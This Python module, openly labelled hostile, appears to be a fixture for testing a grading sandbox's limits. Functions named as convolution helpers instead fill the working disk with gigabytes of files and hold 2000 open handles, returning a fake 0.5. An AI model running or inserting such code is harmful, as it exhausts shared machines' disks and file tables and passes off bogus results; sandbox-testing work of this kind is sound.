"""Hostile: fill the disk and the file table from the working directory.

Outside a private, size-limited scratch file system (and without file-size and open-file
limits) this fills the grading machine's disk. Stops at 50 files of 64 MiB in any case.
"""

import os

_OPEN = []


def conv_output_size(size, kernel_size, padding=0, stride=1):
    block = b"\1" * 2**20
    try:
        for i in range(50):
            with open(f"fill-{i}.bin", "wb") as f:
                for _ in range(64):
                    f.write(block)
    except OSError:
        pass  # the disk is full: carry on with one big file
    with open("big.bin", "wb") as f:
        for _ in range(65):  # one MiB past the 64 MiB limit
            f.write(block)
    return 0.5


def same_padding(kernel_size):
    for i in range(2000):
        _OPEN.append(open(f"handle-{i}.txt", "w"))
    return 0.5
